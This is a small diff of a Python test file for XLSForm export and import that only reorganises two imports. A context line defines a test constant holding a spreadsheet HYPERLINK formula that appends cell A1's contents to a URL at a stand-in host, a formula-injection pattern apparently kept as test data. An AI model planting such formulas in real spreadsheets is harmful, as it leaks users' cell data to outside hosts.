@@ -3,7 +3,8 @@ import zipfile
 
 from openpyxl import load_workbook
 
-from ladder.xlsform import export_xlsform, import_xlsform
+from ladder.xlsform.exporting import export_xlsform
+from ladder.xlsform.importing import import_xlsform
 from test_xlsform import REGISTRY
 
 LINK = '=HYPERLINK("https://example.org/?q="&A1,"Klik hier")'
